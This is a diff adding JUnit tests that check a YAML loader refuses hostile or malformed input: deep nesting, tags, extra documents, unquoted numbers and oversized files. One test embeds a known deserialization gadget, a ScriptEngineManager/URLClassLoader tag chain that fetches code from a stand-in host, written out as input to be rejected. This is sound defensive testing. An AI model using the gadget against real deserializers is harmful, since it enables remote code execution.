@@ -57,4 +57,56 @@ class YamlDocTest {
         assertTrue(indent.contains("expected <block end>"), indent);
         assertTrue(indent.lines().count() == 1, indent);
     }
+
+    @Test
+    void aDeeplyNestedValueIsRefusedForItsDepthNotCalledEmpty() {
+        String deep = "id: " + "[".repeat(20_000) + "]".repeat(20_000) + "\n";
+        long start = System.nanoTime();
+        assertEquals("t.yaml:1: nested deeper than 32 levels (a scenario needs six; is a bracket left open?)", error(deep));
+        assertTrue(System.nanoTime() - start < 2_000_000_000L, "refused quickly");
+        String block = "a:\n" + java.util.stream.IntStream.range(1, 40).mapToObj(i -> "  ".repeat(i) + "k" + i + ":\n")
+                .collect(java.util.stream.Collectors.joining()) + "  ".repeat(40) + "x: 1\n";
+        assertTrue(error(block).contains("nested deeper than 32 levels"), error(block));
+    }
+
+    @Test
+    void aTagIsRefusedByName() {
+        assertEquals("t.yaml:1: tag '!!javax.script.ScriptEngineManager' is not allowed: the lab's YAML holds plain values"
+                + " (text, numbers, lists, mappings); remove the tag",
+                error("id: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x.test/\"]]]]\n"));
+        assertTrue(error("server:\n  issuer: !custom public\n").startsWith("t.yaml:2: tag '!custom' is not allowed"));
+        assertTrue(error("id: !!str a\n").startsWith("t.yaml:1: tag '!!str' is not allowed"));
+    }
+
+    @Test
+    void aSecondDocumentIsRefusedNotIgnored() {
+        assertEquals("t.yaml:2: a second YAML document ('---'): a file holds one document; remove it, or move it to a file of its own",
+                error("id: a\n---\nid: b\n"));
+        assertEquals("a", YamlDoc.of("t.yaml", "---\nid: a\n...\n").bind(Doc.class).id(), "one document with its markers is fine");
+    }
+
+    @Test
+    void numbersAndBooleansAreNotNames() {
+        assertEquals("t.yaml:2: field 'server.dns[0]': expected text, found 1, which YAML reads as a number (write it in quotes: '1')",
+                error("server:\n  dns: [1, 2]\n"));
+        assertEquals("t.yaml:1: field 'id': expected text, found true, which YAML reads as a boolean (write it in quotes: 'true')",
+                error("id: true\n"));
+        assertEquals(List.of("1", "2"), YamlDoc.of("t.yaml", "server:\n  dns: ['1', \"2\"]\n").bind(Doc.class).server().dns());
+    }
+
+    @Test
+    void aHugeDocumentIsRefusedAtOnce() {
+        String title = "id: " + "x".repeat(5 << 20) + "\n";
+        long start = System.nanoTime();
+        assertEquals("t.yaml has 5242885 characters, too many for a YAML file of the lab (at most 1048576)", error(title));
+        assertTrue(System.nanoTime() - start < 1_000_000_000L, "refused quickly");
+    }
+
+    @Test
+    void aHugeFileIsRefusedBeforeItIsRead(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
+        java.nio.file.Path f = dir.resolve("big.yaml");
+        java.nio.file.Files.writeString(f, "title: " + "x".repeat(5 << 20) + "\n");
+        String m = assertThrows(BadInputException.class, () -> YamlDoc.read(f, "scenarios/big.yaml")).getMessage();
+        assertEquals("scenarios/big.yaml is 5.0 MB, too big for a YAML file (at most 1 MB)", m);
+    }
 }
